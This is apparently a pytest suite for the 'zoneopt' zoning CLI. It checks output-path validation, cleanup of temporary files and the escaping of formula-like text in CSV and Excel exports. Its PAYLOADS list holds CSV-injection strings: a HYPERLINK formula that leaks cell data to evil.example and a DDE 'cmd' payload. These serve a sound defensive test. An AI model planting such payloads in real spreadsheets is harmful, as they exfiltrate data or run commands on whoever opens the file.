"""Outputs: ``--out`` is checked before any work on every verb that writes; temporary files
name their writer's process so the next writer removes those a killed writer left; and every
CSV and Excel writer keeps formula-like text (``=HYPERLINK(...)`` as a zone name) as text."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from cli_runner import run, write
from land_cases import EXAMPLE, ROOT, SMALL, small4

import zoneopt
import zoneopt.instance
from zoneopt.files import atomic_write, atomic_write_text, remove_stale_temporaries
from zoneopt.plans import FORMULA_START, csv_escaped, is_formula_like, write_csv

YEARS = ROOT / "instances" / "henan-etdz-45-years.json"
PARKS = ROOT / "instances" / "henan-parks-180.json"
MODEL = ROOT / "tests" / "fixtures" / "mps" / "afiro.mps"

# Every verb that writes, with an input it takes; report writes a directory.
FILE_VERBS = [("solve", SMALL), ("compare", SMALL), ("consolidate", PARKS), ("evaluate", EXAMPLE),
              ("manage", YEARS), ("plan-years", YEARS)]


@pytest.fixture
def no_work(monkeypatch: pytest.MonkeyPatch) -> None:
    """Loading an instance fails the test: a bad --out must be refused before any work."""
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the instance was loaded before --out was checked")

    monkeypatch.setattr(zoneopt.instance, "load", refuse)


def _refused(code: int, out: str, err: str) -> str:
    assert code == 2, (code, err)
    assert out == "" and err.count("\n") == 1 and err.startswith("zoneopt: error: --out "), err
    return err


def _bad_files(tmp_path: Path) -> list[tuple[Path, str]]:
    blocker = tmp_path / "a-file.txt"
    blocker.write_text("x", encoding="utf-8")
    return [(tmp_path, "is a directory"),
            (blocker / "plan.json", "is a file, not a directory"),
            (blocker / "sub" / "plan.json", "is a file, not a directory"),
            (tmp_path / "plan.txt", "unknown output type '.txt'"),
            (tmp_path / "plan", "no file type"),
            (Path("/proc/zoneopt-test/plan.json"), "cannot write in /proc")]


@pytest.mark.usefixtures("no_work")
@pytest.mark.parametrize(("verb", "path"), FILE_VERBS, ids=[v for v, _ in FILE_VERBS])
def test_a_bad_out_is_refused_before_any_work(tmp_path: Path, verb: str, path: Path) -> None:
    for out, reason in _bad_files(tmp_path):
        err = _refused(*run(verb, str(path), "--out", str(out)))
        assert f"--out {out}: " in err and reason in err, err


@pytest.mark.usefixtures("no_work")
def test_a_bad_report_directory_is_refused_before_any_work(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file.txt"
    blocker.write_text("x", encoding="utf-8")
    for out, reason in [(blocker, "exists and is not a directory"), (blocker / "report", "is a file"),
                        (Path("/proc/zoneopt-test"), "cannot write in /proc")]:
        err = _refused(*run("report", str(SMALL), "--out", str(out)))
        assert reason in err, err


@pytest.mark.usefixtures("no_work")
def test_a_bad_template_workbook_is_refused_before_any_work(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file.txt"
    blocker.write_text("x", encoding="utf-8")
    for out, reason in [(tmp_path, "is a directory"), (blocker / "t.xlsx", "is a file, not a directory"),
                        (tmp_path / "t.txt", "name it FILE.xlsx"),
                        (Path("/proc/zoneopt-test/t.xlsx"), "cannot write in /proc")]:
        err = _refused(*run("template", "--from", str(SMALL), "--out", str(out)))
        assert reason in err, err


def test_a_model_file_solution_is_json_only_and_checked_first(tmp_path: Path) -> None:
    err = _refused(*run("solve", str(MODEL), "--out", str(tmp_path / "x.csv")))
    assert "use .json" in err
    code, out, err = run("solve", str(MODEL), "--out", str(tmp_path / "x.json"))
    assert code == 0 and (tmp_path / "x.json").exists(), err


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="permissions bind no one as root")
def test_a_read_only_directory_is_refused(tmp_path: Path) -> None:
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        err = _refused(*run("solve", str(SMALL), "--out", str(ro / "plan.json")))
        assert "cannot write in" in err
    finally:
        ro.chmod(0o755)


def test_missing_folders_are_made_and_the_check_leaves_nothing(tmp_path: Path) -> None:
    target = tmp_path / "new" / "sub" / "plan.csv"
    code, out, err = run("solve", str(SMALL), "--out", str(target))
    assert code == 0 and target.exists(), err
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["new", "plan.csv", "sub"]


# -- temporary files -----------------------------------------------------------------------------

_TEMP = re.compile(r"^\.(?P<target>.+)\.zoneopt-[A-Za-z0-9]+-(?P<pid>\d+)-\w+\.tmp$")


def test_a_temporary_file_names_its_writer(tmp_path: Path) -> None:
    names: list[str] = []

    def write(p: Path) -> None:
        names.append(p.name)
        p.write_text("x", encoding="utf-8")

    atomic_write(tmp_path / "plan.json", write)
    m = _TEMP.match(names[0])
    assert m is not None and m["target"] == "plan.json" and int(m["pid"]) == os.getpid(), names
    assert [p.name for p in tmp_path.iterdir()] == ["plan.json"]


_WRITER = """
import sys, time
from pathlib import Path
from zoneopt.files import atomic_write

def write(p: Path) -> None:
    p.write_text("half a plan", encoding="utf-8")
    print(p.name, flush=True)
    time.sleep(120)

atomic_write(sys.argv[1], write)
"""


def _writer(target: Path) -> tuple[subprocess.Popen[str], str]:
    """A writer stopped in the middle of writing ``target``: its process and its temporary file."""
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(ROOT / "src"), os.environ.get("PYTHONPATH", "")]))
    proc = subprocess.Popen([sys.executable, "-c", _WRITER, str(target)], stdout=subprocess.PIPE, text=True, env=env)
    assert proc.stdout is not None
    return proc, proc.stdout.readline().strip()


@pytest.mark.skipif(os.name != "posix", reason="liveness is probed with signal 0 on POSIX")
def test_the_next_writer_removes_what_a_killed_writer_left(tmp_path: Path) -> None:
    target = tmp_path / "plan.json"
    target.write_text("the old plan", encoding="utf-8")
    killed, killed_tmp = _writer(target)
    alive, alive_tmp = _writer(tmp_path / "other.json")
    try:
        killed.kill()  # SIGKILL: no cleanup runs
        killed.wait(timeout=30)
        assert (tmp_path / killed_tmp).exists() and target.read_text(encoding="utf-8") == "the old plan"
        (tmp_path / ".notes.tmp").write_text("not ours", encoding="utf-8")
        atomic_write_text(tmp_path / "third.json", "{}")
        left = sorted(p.name for p in tmp_path.iterdir())
        assert killed_tmp not in left  # its process is gone
        assert alive_tmp in left  # its writer is still at work
        assert ".notes.tmp" in left and "plan.json" in left and "third.json" in left
    finally:
        for proc in (killed, alive):
            proc.kill()
            proc.wait(timeout=30)
            proc.stdout.close()  # type: ignore[union-attr]
    assert remove_stale_temporaries(tmp_path) == [tmp_path / alive_tmp]


# -- spreadsheets: text stays text --------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tx", "\rx"]


def _poisoned(tmp_path: Path) -> Path:
    """small-4 with formula-like zone names, counties, rule, scenario, evaluation and criterion
    names, and the sections every writing verb needs (years, management, locations)."""
    data = small4()
    for z, name, xy in zip(data["zones"], PAYLOADS, [(0, 0), (5, 0), (0, 5), (50, 50)], strict=False):
        z.update(name=name, county=f"=c{z['id']}", location={"x_km": xy[0], "y_km": xy[1]})
    for k, name in ((4, PAYLOADS[4]), (5, PAYLOADS[5])):  # a tab and a carriage return first
        data["zones"].append({"id": f"z{k}", "name": name, "city": "P", "land_area_mu": 10, "metrics": {"tax": 1},
                              "score": 1, "location": {"x_km": 90 * k, "y_km": 90}, "county": f"+c{k}"})
    data["rules"][0]["id"] = "=req"
    data["scenarios"] = [{"id": "=scn", "pools": {"land": {"total_mu": 900}}}]
    data["evaluations"] = [{"id": "=ev", "weighting": {"method": "fixed"},
                            "criteria": [{"name": '=HYPERLINK("x")', "of": "tax_per_mu", "weight": 1}]}]
    data["periods"] = {"years": [2021, 2022]}
    data["management"] = {"history": {"years": [2019, 2020],
                                      "scores": {"a": [90, 90], "b": [80, 80], "c": [70, 70], "d": [10, 10]}},
                          "warning": {"id": "=warn", "bottom_rank": 1}}
    data["consolidation"] = {}
    return write(tmp_path, data, "poisoned.json")


def _formula_like(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_workbook(path: Path) -> set[str]:
    """No cell is a formula; every formula-like text is a string with Excel's quote prefix."""
    texts: set[str] = set()
    for ws in openpyxl.load_workbook(path):
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and _formula_like(c.value):
                    assert c.data_type == "s" and c.quotePrefix, (path.name, ws.title, c.coordinate, c.value)
                    texts.add(c.value)
    return texts


def _check_csv(path: Path) -> set[str]:
    """No field starts like a formula but numbers; formula-like text comes with a quote in front."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        fields = [field for row in csv.reader(f) for field in row]
    assert not [v for v in fields if _formula_like(v) and not _number(v)], path.name
    return {v[1:] for v in fields if v.startswith("'")}


@pytest.mark.parametrize(("verb", "suffixes", "must_show"), [
    ("solve", (".xlsx", ".csv"), {PAYLOADS[0], "=req"}),
    ("evaluate", (".xlsx", ".csv"), {PAYLOADS[1], '=HYPERLINK("x")'}),
    ("compare", (".xlsx", ".csv"), {PAYLOADS[2], "=scn"}),
    ("plan-years", (".xlsx", ".csv"), {PAYLOADS[0]}),
    ("manage", (".xlsx", ".csv"), {"=warn"}),
    ("consolidate", (".xlsx", ".csv"), {"=ca", PAYLOADS[4], PAYLOADS[5]}),
])
def test_every_writer_keeps_formula_like_text_as_text(tmp_path: Path, verb: str, suffixes: tuple[str, ...],
                                                      must_show: set[str]) -> None:
    """Once ``=HYPERLINK(...)`` as a zone name was a live formula in plan.xlsx and bare in CSV."""
    path = _poisoned(tmp_path)
    for suffix in suffixes:
        target = tmp_path / f"out{suffix}"
        code, out, err = run(verb, str(path), "--out", str(target))
        assert code == 0, err
        shown = _check_workbook(target) if suffix == ".xlsx" else _check_csv(target)
        if suffix == ".xlsx" or verb != "manage":
            assert must_show & shown, (verb, suffix, sorted(shown))


def test_the_plan_set_and_the_report_keep_text_as_text(tmp_path: Path) -> None:
    path = _poisoned(tmp_path)
    data = json.loads(path.read_text(encoding="utf-8"))
    for z in data["zones"]:
        z["metrics"]["energy_reduction_tce"] = 10.0
    data["pools"]["emissions"] = {"pollutants": {"SO2": {"total_t": 10}}}
    both = write(tmp_path, data, "both.json")
    code, out, err = run("solve", str(both), "--out", str(tmp_path / "set.xlsx"))
    assert code == 0, err
    assert PAYLOADS[0] in _check_workbook(tmp_path / "set.xlsx")
    code, out, err = run("solve", str(both), "--out", str(tmp_path / "set.csv"))
    assert code == 0 and PAYLOADS[0] in _check_csv(tmp_path / "set.csv"), err
    data["zones"] = data["zones"][:4]  # not the tab and the carriage return: no font draws them in a chart
    del data["pools"]["emissions"]
    code, out, err = run("report", str(write(tmp_path, data, "r.json")), "--out", str(tmp_path / "report"),
                         "--no-rule-costs", "--points", "2", "--factors", "1", "--no-scenarios")
    assert code == 0, err
    assert {PAYLOADS[0], "=req"} <= _check_workbook(tmp_path / "report" / "report.xlsx")


def test_the_fill_in_workbook_keeps_text_as_text(tmp_path: Path) -> None:
    """The template written from an instance: its formula-like names are text cells, and they
    read back unchanged (a cell's leading tab or carriage return the reader strips as blank)."""
    path = _poisoned(tmp_path)
    target = tmp_path / "t.xlsx"
    code, out, err = run("template", "--from", str(path), "--out", str(target))
    assert code == 0, err
    poisoned = {*PAYLOADS, "=req", "=ca", "=scn", "=ev", "=warn"}
    seen = set()
    for ws in openpyxl.load_workbook(target):
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.value in poisoned:
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate, c.value)
                    seen.add(c.value)
    assert {PAYLOADS[0], PAYLOADS[5], "=req", "=ca"} <= seen
    back, given = zoneopt.load(target), zoneopt.load(path)
    assert [z.name for z in back.zones[:4]] == [z.name for z in given.zones[:4]] == PAYLOADS[:4]
    assert back.rules == given.rules and back.evaluations == given.evaluations


def test_the_escaping_touches_text_only() -> None:
    frame = pd.DataFrame({"=col": ["=1+1", "ok", None, "-x"], "n": [-1.5, 2.0, 3.0, 4.0],
                          "b": [True, False, True, False]})
    safe = csv_escaped(frame)
    assert list(safe.columns) == ["'=col", "n", "b"]
    assert safe["'=col"].tolist()[:2] == ["'=1+1", "ok"] and safe["'=col"].iloc[3] == "'-x"
    assert safe["n"].tolist() == [-1.5, 2.0, 3.0, 4.0] and safe["b"].dtype == bool
    assert frame["=col"].iloc[0] == "=1+1"  # the frame itself is not changed
    plain = pd.DataFrame({"a": ["x", "y", "land-total;tilt-score"], "n": [-1, 2, 3]})
    assert csv_escaped(plain) is plain


def test_a_semicolon_does_not_let_a_formula_out_of_its_cell(tmp_path: Path) -> None:
    """Spreadsheets in a ``;`` locale split CSV at ``;``: each part that starts like a formula
    is escaped, so no cell of the file, split either way, starts like one."""
    frame = pd.DataFrame({"zone": ["a;=HYPERLINK(\"http://x\",\"y\")", "b;c", "=1;-2;ok"],
                          "x;@col": [1, 2, 3]})
    safe = csv_escaped(frame)
    assert safe["zone"].tolist() == ["a;'=HYPERLINK(\"http://x\",\"y\")", "b;c", "'=1;'-2;ok"]
    assert list(safe.columns) == ["zone", "x;'@col"]
    text = write_csv(tmp_path / "t.csv", frame).read_text(encoding="utf-8-sig")
    for line in text.splitlines():
        for sep in (",", ";"):
            for cell in line.split(sep):
                assert not is_formula_like(cell.strip('"')), (line, sep, cell)
    assert all(is_formula_like(c) for c in FORMULA_START) and not is_formula_like(-3)
